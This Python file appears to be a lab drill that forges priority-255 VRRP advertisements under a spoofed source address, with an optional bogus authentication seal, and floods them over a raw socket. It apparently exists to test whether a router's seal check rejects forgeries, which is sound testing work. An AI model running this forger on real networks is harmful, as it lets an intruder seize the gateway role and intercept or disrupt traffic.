"""A stranger on the LAN who wants to be Active: VRRP advertisements of priority 255 in somebody else's name.

    python -m anycast_lab.drills.forger --from 198.51.100.3 --to 198.51.100.2 --vrid 51 --address 198.51.100.4
        --seconds 5 --per-second 1000 --seal none|bad

`bad` puts as many bytes behind the advertisement as a seal has, with the newest boot and sequence there can be and a digest
that no key made. IPv4 only: what is tried is the seal, not the family.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import time
from ipaddress import IPv4Address

_PROTOCOL = 112
_HEADER = struct.Struct("!BBHHHBBH4s4s")


def advertisement(vrid: int, addresses: list[IPv4Address], *, sealed: bool) -> bytes:
    """RFC 9568 section 5.2, priority 255, 100 ms, with a true checksum; behind it 56 bytes that look like a seal."""
    head = struct.pack("!BBBBHH", 0x31, vrid, 255, len(addresses), 10, 0)
    body = head + b"".join(address.packed for address in addresses)
    total = sum(struct.unpack(f"!{len(body) // 2}H", body))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:6] + struct.pack("!H", ~total & 0xFFFF) + body[8:]
    seal = struct.pack("!BBBBIQQ", 1, 1, 1, 7, 1, 2**64 - 1, 2**64 - 1) + os.urandom(32)
    return body + seal if sealed else body


def packet(source: IPv4Address, destination: IPv4Address, payload: bytes) -> bytes:
    """With TTL 255; the kernel fills in lengths and checksum (raw(7))."""
    return _HEADER.pack(0x45, 0xC0, 0, 0, 0, 255, _PROTOCOL, 0, source.packed, destination.packed) + payload


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="anycast-forger", description=__doc__)
    parser.add_argument("--from", dest="source", type=IPv4Address, required=True)
    parser.add_argument("--to", dest="destination", type=IPv4Address, required=True)
    parser.add_argument("--vrid", type=int, required=True)
    parser.add_argument("--address", type=IPv4Address, nargs="+", required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--per-second", type=int, required=True)
    parser.add_argument("--seal", choices=["none", "bad"], required=True)
    options = parser.parse_args(argv)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        due = time.monotonic()
        end = due + options.seconds
        while due < end:
            forged = advertisement(options.vrid, options.address, sealed=options.seal == "bad")
            sock.sendto(packet(options.source, options.destination, forged), (str(options.destination), 0))
            due += 1 / options.per_second
            time.sleep(max(0.0, due - time.monotonic()))


if __name__ == "__main__":
    main()
